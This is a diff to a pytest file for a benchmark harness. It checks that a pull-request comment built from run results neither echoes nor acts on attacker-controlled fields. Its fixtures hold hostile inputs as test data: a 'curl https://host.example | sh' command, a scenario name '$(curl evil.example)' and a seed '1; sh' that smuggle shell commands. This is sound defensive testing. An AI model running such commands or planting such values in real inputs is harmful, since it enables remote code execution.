@@ -1,5 +1,6 @@
 """The comment of a pull request: rendered from results that are only data, and posted once."""
 
+import json
 from dataclasses import replace
 
 import pytest
@@ -9,7 +10,7 @@ from tests.cli.conftest import stored
 from tests.conftest import ROOT
 from tests.factories import cells, rounds, run, scenario
 from tests.github import ENVIRON, Repository
-from tests.workflow import install_harness, run_script
+from tests.workflow import install_harness, run_script, write_program
 
 SCRIPTS = ROOT / ".github" / "pull-request"
 MARK = "<!-- harness-comment -->\n"
@@ -30,14 +31,14 @@ def render(tmp_path):
 
 @pytest.fixture
 def results(tmp_path):
-    """Return an artifact with a run whose command somebody has made up."""
+    """Return an artifact with a run whose title and command somebody has made up."""
     planned = cells()
     seconds = {cell: 0.02 if cell == planned[-1] else 0.01 for cell in planned}
     title = scenario(title="@all https://evil.example _www.evil.example GH-5 fixes #5")
     measured = run(planned, controlled=True, id="2026-11-01T04-10-00Z-aaaa", scenarios=[title])
     measured = replace(
         measured, stops={group.name: Stop(StopReason.ROUNDS, 5) for group in measured.plan.groups},
-        command=("harness", "matrix", "-e", "tf2.21+keras@pr/1", "--repository", "https://host.example", "```\n@a"),
+        command=("bash", "-c", "curl https://host.example | sh", "```\n@a"),
     )  # fmt: skip
     return stored(tmp_path / "artifact", measured, rounds(seconds, 5, 0.002, 1)).parent
 
@@ -52,11 +53,44 @@ def test_the_comment_has_the_table_and_nothing_that_github_acts_on(render, resul
     assert "evil" in outside
     for word in ("@all", "://", "www.", "GH-5", "#5", "<!--"):
         assert word not in outside
-    # the command can be copied
-    assert "\nharness matrix -e tf2.21+keras@pr/1 --repository https://host.example " in command
-    assert "@a" in command
+    # the command can be copied, and is none that the job wrote
+    assert command == "text\nharness matrix -s step -e tf1.14,tf2.0 --seed 7\n"
     assert rest.strip() == ""
     assert text == golden
+
+
+def test_the_command_has_only_names_and_numbers_of_the_plan(render, results, tmp_path):
+    write_program(tmp_path / "bin" / "harness", "echo the table")
+    path = next(results.glob("*/run.json"))
+    original = path.read_text()
+
+    def read_command(change):
+        document = json.loads(original)
+        change(document)
+        path.write_text(json.dumps(document))
+        process, text = render(results)
+        assert "Traceback" not in process.stderr
+        return (text or "").partition("```text\n")[2].partition("\n```")[0]
+
+    def change_names(document):
+        text = json.dumps(document).replace('"step"', '"step_side_by_side"')
+        document.update(json.loads(text))
+        document["plan"]["budget_seconds"] = 1200.0
+
+    assert read_command(change_names) == (
+        "harness matrix --base 'HEAD^1' --head HEAD -s step -e tf1.14,tf2.0 --budget 1200s --seed 7"
+    )
+    for change in (
+        lambda document: document["scenarios"][0].update(name="$(curl evil.example)"),
+        lambda document: document["environments"][0].update(name="evil"),
+        lambda document: document["environments"][0].update(asked="tensorflow==2.15.0,evil==1"),
+        lambda document: document["environments"][0].update(source="https://evil.example"),
+        lambda document: document["plan"].update(seed="1; sh"),
+        lambda document: document["plan"].update(budget_seconds=1e300),
+        lambda document: document.update(environments=[]),
+        lambda document: document.update(scenarios=None),
+    ):
+        assert read_command(change) == ""
 
 
 def test_a_job_that_measured_nothing_says_why(render, tmp_path):
